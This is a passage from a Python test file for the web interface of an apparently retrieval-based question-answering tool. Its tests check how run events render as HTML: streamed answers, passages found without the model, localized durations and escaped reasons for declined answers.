    waiting = dict(turn_parts(fold(begun), CitedPlaces()))
    assert "Found without the model, while it writes:" in waiting["passages"]
    assert "<mark>The crew lifts it.</mark>" in waiting["passages"]
    assert "gt-room is-growing" in waiting["answer"]
    assert 'data-panel="1"' in waiting["panels"]
    reading = fold([*begun, ModelProgress(ModelPhase.READING, 40)])
    assert "The model is reading, 40%" in state_part(reading)
    writing = fold([*begun, AnswerDelta("The cr")])
    assert "The cr" in answer_part(writing)
    assert "gt-room is-growing" in answer_part(writing)
    ended: list[Event] = [
        AnswerReady("The crew [1].", PLACES[:1], stands_in=CLOSE),
        RunFinished("answered", 1.0, Usage()),
    ]
    done = dict(turn_parts(fold([*begun, *ended]), CitedPlaces()))
    assert "Found without" not in done["passages"]
    assert 'class="gt-room"' in done["answer"], "it keeps the room, so that nothing moves"


def test_a_stopped_run_keeps_what_was_found_without_the_model() -> None:
    told = RulesAnswered(AnswerReady("Closest.", PLACES, passages=(CLOSE,)))
    parts = dict(turn_parts(fold([*WRITING, told, RunStopped(1.0)]), CitedPlaces()))
    assert "Found without the model:" in parts["passages"]
    assert "The crew lifts it." in parts["passages"]


def test_durations_are_said_in_the_readers_language() -> None:
    with use_language("zh-hans"):
        said = [duration(seconds) for seconds in (0.012, 0.35, 4.2, 125, 180)]
    assert said == ["12 毫秒", "0.35 秒", "4.2 秒", "2 分 5 秒", "3 分钟"]


def test_a_declined_answer_says_why_and_unfolds_to_the_other_reasons() -> None:
    reasons = (
        AssessmentReason("run.declined.undefined", (("thing", "<b>Lumen"),)),
        AssessmentReason("run.declined.low", (("probability", "0.17"), ("needed", "0.58"))),
    )
    graded = (NodeStarted("grade_evidence", 1), EvidenceAssessed(Assessment(0.17, 0.58, reasons)))
    view = fold([*graded, RunFinished("not_found", 2.0, Usage())])
    declined = dict(turn_parts(view, CitedPlaces()))["declined"]
    reason = "The sentences that come closest do not say in so many words what &lt;b&gt;Lumen is."
    assert f"<summary>Why not: {reason}</summary>" in declined
    assert "is 0.17; 0.58 is needed" in declined
    assert reason in dict(run_parts(view))["step-0"]
    answered = fold([*graded, RunFinished("answered", 2.0, Usage())])
    assert not dict(turn_parts(answered, CitedPlaces()))["declined"]
